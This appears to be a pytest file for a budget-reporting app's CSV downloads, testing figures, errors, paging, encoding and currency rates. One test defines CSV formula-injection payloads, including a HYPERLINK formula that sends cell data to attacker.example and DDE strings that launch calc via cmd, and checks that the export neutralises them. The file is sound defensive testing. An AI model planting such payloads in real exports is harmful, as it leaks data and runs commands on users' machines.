"""CSV downloads: the same figures as the GraphQL reports, as decimal strings."""

from __future__ import annotations

import json
import re
from datetime import date
from decimal import Decimal

import httpx

from app import models as m
from app.config import Settings
from app.main import create_app
from tests import factories as f
from tests.conftest import Database, GraphQLClient
from tests.http.spreadsheets import cells, rows
from tests.reports.budget.test_summary import summary, two_initiatives


async def as_auditor(db: Database, http: httpx.AsyncClient) -> None:
    """Downloads need the export permission: from here on the client sends an auditor's key."""
    async with db.sessions() as session, session.begin():
        secret = await f.api_key(session, "auditor")
    http.headers["Authorization"] = f"Bearer {secret}"


async def test_budget_summary_csv_has_the_api_figures(db: Database, client: GraphQLClient) -> None:
    # given
    await two_initiatives(db)
    await as_auditor(db, client.http)
    # when
    response = await client.http.get(
        "/reports/budget-summary.csv", params={"groupBy": "INITIATIVE,YEAR"}
    )
    report = await summary(client, groupBy=["INITIATIVE", "YEAR"])
    # then
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="budget-summary.csv"' in response.headers["content-disposition"]
    table = rows(response.text)
    groups = [r for r in table if r["row"] == "group"]
    assert [(r["initiative_code"], int(r["year"])) for r in groups] == [
        (g["key"]["initiative"]["code"], g["key"]["year"]) for g in report["groups"]
    ]
    for line, group in zip(groups, report["groups"], strict=True):
        assert line["spent"] == group["measures"]["spent"]["amount"]
        assert line["budget_current"] == group["measures"]["budgetCurrent"]["amount"]
        assert int(line["count"]) == group["measures"]["count"]
    (total,) = [r for r in table if r["row"] == "total"]
    assert total["spent"] == report["total"]["spent"]["amount"] == "340.10"
    assert total["currency"] == "CNY"
    assert sum(Decimal(r["committed"]) for r in groups) == Decimal(total["committed"])


async def test_csv_takes_filters_as_json_and_shows_what_the_top_n_left_out(
    db: Database, client: GraphQLClient
) -> None:
    await two_initiatives(db)
    await as_auditor(db, client.http)
    response = await client.http.get(
        "/reports/budget-summary.csv",
        params={
            "groupBy": "INITIATIVE",
            "orderBy": json.dumps([{"measure": "SPENT"}]),
            "first": "1",
            "filter": json.dumps({"transactionType": {"in": ["EXPENDITURE"]}}),
        },
    )
    assert response.status_code == 200, response.text
    table = rows(response.text)
    assert [r["row"] for r in table] == ["group", "others", "total"]
    assert table[0]["initiative_code"] == "A"
    assert Decimal(table[0]["spent"]) + Decimal(table[1]["spent"]) == Decimal(table[2]["spent"])


async def test_csv_errors_carry_the_api_codes(db: Database, client: GraphQLClient) -> None:
    await as_auditor(db, client.http)
    bad_currency = await client.http.get(
        "/reports/budget-summary.csv", params={"groupBy": "INITIATIVE", "currency": "ABC"}
    )
    assert bad_currency.status_code == 400
    assert bad_currency.json()["errors"][0]["extensions"]["code"] == "INVALID_CURRENCY"
    bad_json = await client.http.get(
        "/reports/budget-summary.csv", params={"groupBy": "INITIATIVE", "filter": "{"}
    )
    assert bad_json.status_code == 400
    assert bad_json.json()["errors"][0]["extensions"]["code"] == "BAD_REQUEST"
    unknown = await client.http.get("/reports/nothing.csv")
    assert unknown.status_code == 404
    assert unknown.json()["errors"][0]["extensions"]["code"] == "NOT_FOUND"
    stray = await client.http.get("/reports/budget-summary.csv", params={"groupby": "YEAR"})
    assert stray.status_code == 400


async def test_csv_keeps_every_decimal_digit(db: Database, client: GraphQLClient) -> None:
    async with db.sessions() as session, session.begin():
        program = await f.program(session, pledged_amount=Decimal("100000000000.00"))
        a = await f.initiative(session, program)
        await f.transaction(
            session, a, type=m.TransactionType.EXPENDITURE, amount=Decimal("99999999999.99")
        )
    await as_auditor(db, client.http)
    response = await client.http.get("/reports/budget-summary.csv", params={"groupBy": ""})
    group, total = rows(response.text)
    assert (group["row"], total["row"]) == ("group", "total")
    assert group["spent"] == total["spent"] == "99999999999.99"


async def small_pages(db: Database, settings: Settings) -> GraphQLClient:
    """A client whose lists hold two items a page, to see CSV downloads page through."""
    app = create_app(
        settings.model_copy(update={"database_url": db.url, "max_page_size": 2}),
        engine=db.engine,
    )
    transport = httpx.ASGITransport(app=app)
    return GraphQLClient(httpx.AsyncClient(transport=transport, base_url="http://test"))


async def test_timeline_csv_holds_every_initiative_page_after_page(
    db: Database, settings: Settings
) -> None:
    # given five initiatives, one of them with an overdue milestone
    async with db.sessions() as session, session.begin():
        program = await f.program(session)
        for n in range(5):
            initiative = await f.initiative(session, program, code=f"I{n}", position=n)
            if n == 3:
                await f.milestone(session, initiative, planned_date=date(2024, 1, 31))
    client = await small_pages(db, settings)
    await as_auditor(db, client.http)
    # when
    async with client.http:
        response = await client.http.get(
            "/reports/timeline-initiatives.csv", params={"asOfDate": "2024-03-01"}
        )
        late = await client.http.get(
            "/reports/timeline-milestones.csv", params={"asOfDate": "2024-03-01"}
        )
    # then
    assert response.status_code == 200, response.text
    table = rows(response.text)
    assert [r["initiative_code"] for r in table] == [f"I{n}" for n in range(5)]
    assert {r["as_of_date"] for r in table} == {"2024-03-01"}
    assert table[3]["on_track"] == "OFF_TRACK" and table[3]["overdue_count"] == "1"
    assert table[0]["on_track"] == "NO_MILESTONES"
    (milestone,) = rows(late.text)
    assert (milestone["initiative_code"], milestone["days_overdue"]) == ("I3", "30")


async def test_reach_csv_has_rows_and_totals(db: Database, client: GraphQLClient) -> None:
    async with db.sessions() as session, session.begin():
        program = await f.program(session)
        group = await f.beneficiary_group(session, code="youth")
        for code, reached in (("A", "1"), ("B", "2")):
            initiative = await f.initiative(session, program, code=code)
            await f.beneficiary_figure(
                session,
                initiative,
                group,
                target_value=Decimal("3"),
                reached_value=Decimal(reached),
            )
    await as_auditor(db, client.http)
    reach = rows((await client.http.get("/reports/reach.csv")).text)
    totals = rows((await client.http.get("/reports/reach-totals.csv")).text)
    assert [(r["initiative_code"], Decimal(r["share_reached"])) for r in reach] == [
        ("A", Decimal("0.3333")),
        ("B", Decimal("0.6667")),
    ]
    (total,) = totals
    assert (total["group_code"], Decimal(total["target"]), Decimal(total["reached"])) == (
        "youth",
        Decimal("6"),
        Decimal("3"),
    )
    assert Decimal(total["share_reached"]) == Decimal("0.5")


async def test_json_nested_past_the_parser_is_a_bad_request(
    db: Database, client: GraphQLClient
) -> None:
    # given: the review's filter, 10,000 '[' then 10,000 ']' (F9 5)
    await as_auditor(db, client.http)
    deep = "[" * 10_000 + "]" * 10_000
    # when
    response = await client.http.get("/reports/reach.csv", params={"filter": deep})
    # then: a typed refusal naming the parameter, not a plain-text 500
    assert response.status_code == 400
    (error,) = response.json()["errors"]
    assert error["extensions"]["code"] == "BAD_REQUEST"
    assert error["message"].startswith("filter: ")


async def test_json_numbers_too_long_to_convert_are_a_bad_request(
    db: Database, client: GraphQLClient
) -> None:
    await as_auditor(db, client.http)
    response = await client.http.get(
        "/reports/budget-summary.csv", params={"groupBy": "", "first": "1", "having": "9" * 5000}
    )
    assert response.status_code == 400
    assert response.json()["errors"][0]["extensions"]["code"] == "BAD_REQUEST"


# The review's payloads (F5), and the other characters that start a formula.
PAYLOADS = {
    "title": '=HYPERLINK("http://attacker.example/?d="&A1,"Click for details")',
    "focus_area": "+cmd|' /C calc'!A0",
    "region": "@SUM(1+1)",
    "category": "=1+1",
    "milestone": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


async def test_text_that_would_run_as_a_formula_is_neutralised_everywhere(
    db: Database, client: GraphQLClient
) -> None:
    # given an initiative whose every text is a formula, one with a negative spend
    async with db.sessions() as session, session.begin():
        program = await f.program(session)
        bad = await f.initiative(
            session,
            program,
            code="RT-CSV-1",
            title=PAYLOADS["title"],
            focus_area=PAYLOADS["focus_area"],
            region=PAYLOADS["region"],
        )
        await f.budget_line(session, bad, amount=Decimal("1000.00"), category=PAYLOADS["category"])
        for title in (PAYLOADS["milestone"], PAYLOADS["tab"], PAYLOADS["cr"]):
            await f.milestone(session, bad, title=title, planned_date=date(2024, 1, 31))
        refund = await f.initiative(session, program, code="RT-CSV-2", region="CN")
        await f.transaction(
            session, refund, type=m.TransactionType.EXPENDITURE, amount=Decimal("-9.99")
        )
    await as_auditor(db, client.http)
    # when
    downloads = {
        name: await client.http.get(f"/reports/{name}.csv", params=params)
        for name, params in (
            ("budget-summary", {"groupBy": "INITIATIVE,FOCUS_AREA,REGION,CATEGORY"}),
            ("timeline-initiatives", {"asOfDate": "2024-03-01"}),
            ("timeline-milestones", {"asOfDate": "2024-03-01"}),
        )
    }
    # then no cell starts a formula; a text that would gets an apostrophe in front
    for name, response in downloads.items():
        assert response.status_code == 200, (name, response.text)
        for row in cells(response):
            for cell in row:
                assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), (name, cell)
    (group,) = [
        r for r in rows(downloads["budget-summary"].text) if r["initiative_code"] == "RT-CSV-1"
    ]
    assert group["initiative_title"] == "'" + PAYLOADS["title"]
    assert group["focus_area"] == "'" + PAYLOADS["focus_area"]
    assert group["region"] == "'" + PAYLOADS["region"]
    assert group["category"] == "'" + PAYLOADS["category"]
    (timeline,) = [
        r
        for r in rows(downloads["timeline-initiatives"].text)
        if r["initiative_code"] == "RT-CSV-1"
    ]
    assert timeline["initiative_title"] == "'" + PAYLOADS["title"]
    late = {r["milestone"] for r in rows(downloads["timeline-milestones"].text)}
    assert late == {"'" + PAYLOADS[k] for k in ("milestone", "tab", "cr")}
    # and numbers stay numbers, a negative one included
    (refund_row,) = [
        r for r in rows(downloads["budget-summary"].text) if r["initiative_code"] == "RT-CSV-2"
    ]
    assert refund_row["spent"] == "-9.99"
    assert refund_row["variance"] == "9.99"


async def test_chinese_text_opens_in_a_spreadsheet(db: Database, client: GraphQLClient) -> None:
    # given
    async with db.sessions() as session, session.begin():
        program = await f.program(session)
        await f.initiative(session, program, code="CP-10", title="浙江共同富裕发展基金")
    await as_auditor(db, client.http)
    # when
    response = await client.http.get("/reports/timeline-initiatives.csv")
    # then: a UTF-8 byte-order mark first, which is how Excel knows the encoding
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    header, row = cells(response)
    assert header[0] == "as_of_date"
    assert row[header.index("initiative_title")] == "浙江共同富裕发展基金"


async def test_booleans_and_counts_read_as_people_write_them(
    db: Database, client: GraphQLClient
) -> None:
    # given an overdue milestone and a reach of "more than 10,000 people"
    async with db.sessions() as session, session.begin():
        program = await f.program(session)
        a = await f.initiative(session, program, code="A")
        await f.milestone(session, a, planned_date=date(2024, 1, 31))
        group = await f.beneficiary_group(session, code="youth")
        await f.beneficiary_figure(
            session,
            a,
            group,
            target_value=Decimal("20000"),
            reached_value=Decimal("10000"),
            reached_qualifier=m.FigureQualifier.MORE_THAN,
        )
    await as_auditor(db, client.http)
    # when
    late = rows(
        (
            await client.http.get(
                "/reports/timeline-milestones.csv", params={"asOfDate": "2024-03-01"}
            )
        ).text
    )
    (reach,) = rows((await client.http.get("/reports/reach.csv")).text)
    (totals,) = rows((await client.http.get("/reports/reach-totals.csv")).text)
    # then
    assert [r["overdue"] for r in late] == ["TRUE"]
    assert (reach["target"], reach["reached"], reach["reached_qualifier"]) == (
        "20000",
        "10000",
        "MORE_THAN",
    )
    assert Decimal(reach["share_reached"]) == Decimal("0.5")
    assert (totals["target"], totals["reached"], totals["figure_count"]) == ("20000", "10000", "1")


async def test_a_converted_summary_names_its_rates(db: Database, client: GraphQLClient) -> None:
    # given CNY spending converted to USD at two rates
    async with db.sessions() as session, session.begin():
        program = await f.program(session)
        a = await f.initiative(session, program, code="A")
        for rate, day, source in (
            ("0.15", date(2021, 1, 1), "first"),
            ("0.16", date(2022, 6, 1), "second"),
        ):
            await f.exchange_rate(session, rate=Decimal(rate), rate_date=day, source=source)
        for amount, day in (("100.00", date(2022, 1, 1)), ("200.00", date(2022, 7, 1))):
            await f.transaction(
                session,
                a,
                type=m.TransactionType.EXPENDITURE,
                amount=Decimal(amount),
                transaction_date=day,
                value_date=day,
            )
    await as_auditor(db, client.http)
    # when
    response = await client.http.get(
        "/reports/budget-summary.csv", params={"groupBy": "INITIATIVE", "currency": "USD"}
    )
    report = await summary(client, groupBy=["INITIATIVE"], currency="USD")
    # then: after the total, one row per rate the figures were converted at
    table = rows(response.text)
    assert [r["row"] for r in table] == ["group", "total", "rate", "rate"]
    rates = [
        (r["rate_currency"], r["rate"], r["rate_date"], r["rate_source"], r["rate_records"])
        for r in table
        if r["row"] == "rate"
    ]
    assert rates == [
        (r["currency"], r["rate"], r["rateDate"], r["source"], str(r["records"]))
        for r in report["ratesUsed"]
    ]
    assert {(source, records) for *_, source, records in rates} == {("first", "1"), ("second", "1")}
    assert all(r["currency"] == "USD" for r in table)
    assert table[1]["spent"] == report["total"]["spent"]["amount"] == "47.00"
